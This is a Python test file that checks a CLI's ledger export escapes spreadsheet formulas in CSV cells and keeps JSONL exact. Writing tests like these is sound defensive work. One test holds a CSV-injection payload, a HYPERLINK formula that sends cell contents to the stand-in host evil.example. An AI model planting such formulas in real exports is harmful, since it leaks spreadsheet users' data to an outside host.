"""`orch ledger export --format csv` never hands a spreadsheet a formula: any text cell (a
model id, an error text, a tag, a user name) that starts with = + - @, a tab or a CR is
prefixed with a single quote (OWASP's CSV-injection rule), while `--format jsonl` stays
byte-exact. Before, `=HYPERLINK(...)` in a reason went out as it was and ran on open, and a
bare CR inside a cell went out unquoted, so every CSV reader split that row in two."""

from __future__ import annotations

import csv
import io
import itertools
import json

from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from orchestrator.cli import cli
from orchestrator.cli.ledger_cmds import FORMULA_START
from orchestrator.ledger.spend import Ledger

TEXT_COLUMNS = ("model", "provider", "reason", "tag", "project_dir", "user", "host",
                "finish_reason")
_ids = itertools.count()

# plain text, and text that starts the way a formula does (or nearly: a quote, a space)
cells = st.one_of(
    st.text(max_size=40),
    st.tuples(st.sampled_from([*FORMULA_START, "'", " ", "0"]), st.text(max_size=40))
    .map("".join),
)


def export(fmt: str) -> str:
    result = CliRunner().invoke(cli, ["ledger", "export", "--since", "all", "--format", fmt])
    assert result.exit_code == 0, result.output
    return result.stdout_bytes.decode()  # .stdout folds CRLF, in a cell too


@settings(max_examples=60, deadline=None,
          suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(values=st.fixed_dictionaries({c: cells for c in TEXT_COLUMNS}))
def test_no_csv_cell_starts_a_formula_and_jsonl_stays_exact(orch_home, values):
    leg_id = f"w-{next(_ids)}"
    ledger = Ledger()
    ledger.append({"wave_id": "w", "leg_id": leg_id, "kind": "leg", "status": "error",
                   "input_tokens": 3, "cost_usd": None, "cost_source": "unknown", **values})
    (stored,) = [r for r in ledger.rows() if r["leg_id"] == leg_id]

    lines = [json.loads(x) for x in export("jsonl").split("\n") if x]  # not splitlines():
    (line,) = [x for x in lines if x["leg_id"] == leg_id]  # U+2028 may sit in a value
    assert {k: v for k, v in line.items() if k != "ts"} == \
        {k: v for k, v in stored.items() if k != "ts"}  # exact: nothing prefixed

    parsed = list(csv.DictReader(io.StringIO(export("csv"), newline="")))
    assert len(parsed) == len(ledger.rows())  # a CR in a cell never splits a row
    (row,) = [r for r in parsed if r["leg_id"] == leg_id]
    assert not any(cell.startswith(FORMULA_START) for cell in row.values())
    for column in TEXT_COLUMNS:
        want = stored[column] or ""
        if want.startswith(FORMULA_START):
            want = "'" + want
        assert row[column] == want, column
    assert row["input_tokens"] == "3" and row["cost_usd"] == ""  # numbers untouched


def test_a_hyperlink_formula_in_an_error_text_is_shown_not_run(orch_home):
    Ledger().append({"wave_id": "w", "leg_id": "w-1", "kind": "leg", "model": "-2+3",
                     "provider": "@evil", "status": "error",
                     "reason": '=HYPERLINK("http://evil.example/?"&A1,"click")'})
    (row,) = list(csv.DictReader(io.StringIO(export("csv"), newline="")))
    assert row["reason"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["model"] == "'-2+3" and row["provider"] == "'@evil"
    assert row["leg_id"] == "w-1" and row["status"] == "error"


def test_a_carriage_return_inside_a_cell_keeps_the_row_whole(orch_home):
    Ledger().append({"wave_id": "w", "leg_id": "w-1", "kind": "leg", "model": "p/m",
                     "provider": "p", "status": "error", "reason": "first\rsecond"})
    text = export("csv")
    assert text.endswith("\r\n")  # RFC 4180 line ends
    (row,) = list(csv.DictReader(io.StringIO(text, newline="")))
    assert row["reason"] == "first\rsecond" and row["provider"] == "p"
